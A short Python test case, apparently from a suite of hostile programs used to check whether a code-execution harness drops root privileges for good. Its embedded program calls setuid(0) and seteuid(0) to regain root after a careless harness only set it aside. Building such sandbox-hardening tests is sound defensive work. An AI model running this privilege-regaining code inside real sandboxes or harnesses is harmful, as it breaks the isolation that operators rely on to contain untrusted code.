"""Takes back the id of root, which a careless harness only put aside."""

from hostile import Attack, Tier

PROGRAM = """
import os
def f(x):
    os.setuid(0)
    os.seteuid(0)
    return 2 if os.geteuid() == 0 else 0
"""

ATTACK = Attack(PROGRAM, tier=Tier.WEAK, naive="set_aside", needs_root=True)
